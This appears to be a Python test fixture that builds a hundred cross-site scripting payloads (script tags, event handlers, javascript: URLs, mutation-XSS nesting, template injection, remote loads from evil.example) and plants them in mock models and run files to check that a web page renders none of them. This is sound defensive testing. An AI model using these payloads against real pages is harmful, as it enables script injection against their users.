"""A hundred texts that would run a script, or ask another machine for something, if a page took them as HTML.

The ways in are those of the public cheat sheets (OWASP, PortSwigger): elements with handlers, elements that
load, broken and nested markup, ways out of attributes and scripts, URLs, and templates. Each is tried with
two deeds: one sets ``window.hit``, the other opens a dialog; what loads, loads from another machine.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from benchmarks.page_specimens import Letters, Prediction, Speaker, Words, speaker, tasked
from yanmo.serving.catalog import Card, OpenModel, ServedModel

_WAYS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=//{at}.example/a.js></script>",
    "</script><script>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=//{at}.example/a.png onload={js}>",
    "<IMG SRC=x ONERROR={js}>",
    "<img/src=x/onerror={js}>",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{js}><text x=20 y=20>x</text></a>",
    "<svg><use href=//{at}.example/a.svg#x></svg>",
    "<body onload={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe src=//{at}.example/></iframe>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<object data=//{at}.example/a></object>",
    "<embed src=//{at}.example/a>",
    "<video><source onerror={js}></video>",
    "<video src=//{at}.example/a onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<marquee onstart={js}>x</marquee>",
    "<link rel=stylesheet href=//{at}.example/a.css>",
    "<style>@import '//{at}.example/a.css';</style>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={js}>x</b>",
    "<div style=background:url(//{at}.example/a.png)>x</div>",
    "<meta http-equiv=refresh content='0;url=//{at}.example/'>",
    "<base href=//{at}.example/>",
    "<form action=//{at}.example/><button autofocus onfocus={js}>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<a href=javascript:{js} autofocus onfocus={js}>x</a>",
    "[x](javascript:{js})",
    "![x](//{at}.example/a.png)",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "<!--><img src=x onerror={js}>-->",
    "<x onpointerover={js} tabindex=1 autofocus onfocus={js}>x</x>",
    "<template><img src=x onerror={js}></template><img src=x onerror={js}>",
    "\u003cimg src=x onerror={js}\u003e &lt;img src=x onerror={js}&gt;",
    "${{{js}}} {{{{constructor.constructor('{js}')()}}}}",
    "');{js};//",
)
_DEEDS = (("window.hit=1", "evil"), ("alert(1)", "wicked"))
PAYLOADS = tuple(way.format(js=deed, at=place) for way in _WAYS for deed, place in _DEEDS)
TEXT = "\n".join(PAYLOADS)
# What a page that takes none of them as HTML never has.
FORBIDDEN = (
    "main :is(script, img[src=x], iframe, object, embed, video, audio, style, link, base, marquee, template, "
    "form[action])"
)


def hostile_models() -> list[ServedModel]:
    """Models that say the payloads, and a hundred that have them as names."""
    each = iter(range(10**9))
    shares = {payload: 1 / (2 + place) for place, payload in enumerate(PAYLOADS)}

    def next_one() -> str:
        return PAYLOADS[next(each) % len(PAYLOADS)]

    def several(_: tuple[str, ...]) -> Prediction:
        return {"labels": list(PAYLOADS), "probabilities": shares}

    def one(_: tuple[str, ...]) -> Prediction:
        label = next_one()
        return {"label": label, "probabilities": {label: 0.9, **shares}}

    def found(text: tuple[str, ...]) -> Prediction:
        return {"tags": [], "entities": list(_found(text[0]))}

    def answer(text: tuple[str, ...]) -> Prediction:
        start = text[1].find(text[0])
        return {"answer": text[0], "start": start, "end": start + len(text[0]), "score": 1.0}

    vectors = OpenModel(tokenizer=Words("abc"), vectors=Letters)
    told: list[tuple[str, str, str, Callable[[tuple[str, ...]], Prediction]]] = [
        ("several", "classify", "text-classification", several),
        ("one", "classify", "text-classification", one),
        ("found", "tag", "token-classification", found),
        ("found-here", "answer", "question-answering", answer),
        ("translated", "translate", "translation", lambda _: {"text": TEXT}),
        ("short", "summarize", "summarization", lambda _: {"text": TEXT}),
    ]
    return [
        _speaker("talker", chat=True),
        _speaker("writer", chat=False),
        *(tasked(name, route, say, task=task) for name, route, task, say in told),
        ServedModel(card=Card(name="alike", routes=("embeddings", "similarity")), open=lambda: vectors),
        *(speaker(payload, ["x"], architecture=payload, num_bytes=1) for payload in PAYLOADS),
    ]


def _speaker(name: str, **card: Any) -> ServedModel:
    lines = [f"{payload}\n" for payload in PAYLOADS]
    words = Words(lines)
    opened = OpenModel(tokenizer=words, engine=Speaker(lines, words))
    return ServedModel(
        card=Card(name=name, routes=("completions", "chat/completions"), **card), open=lambda: opened
    )


def _found(text: str) -> list[Prediction]:
    stretches, start = [], 0
    for line in text.split("\n"):
        stretches.append(
            {"text": line, "label": line, "start": start, "end": start + len(line), "score": 0.5}
        )
        start += len(line) + 1
    return stretches


def write_hostile_runs(folder: Path) -> None:
    """Runs whose names, settings, samples and incidents are payloads."""
    names = [name for payload in PAYLOADS if "/" not in payload and len(name := payload.encode()) < 200]
    for number, name in enumerate(names):
        run = folder / name.decode()
        run.mkdir(parents=True)
        rows: list[dict[str, Any]] = [
            {
                "kind": kind,
                "step": step,
                "tokens": step,
                "elapsed_s": step,
                "loss_nats": 3 / step,
                "bits_per_byte": 2 / step,
            }
            for step in (1, 2, 3)
            for kind in ("train", "valid")
        ]
        rows.append({"kind": "sample", "step": 3, "text": TEXT})
        rows.append({"kind": "skipped", "step": 2, "reason": TEXT})
        (run / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
        toml = f"seed = {number}\nname = {json.dumps(f'{number} {TEXT}')}\n"
        (run / "run.toml").write_text(toml, encoding="utf-8")
        (run / "result.json").write_text(json.dumps({"bits_per_byte": 2.0, "steps": 3, "note": TEXT}))
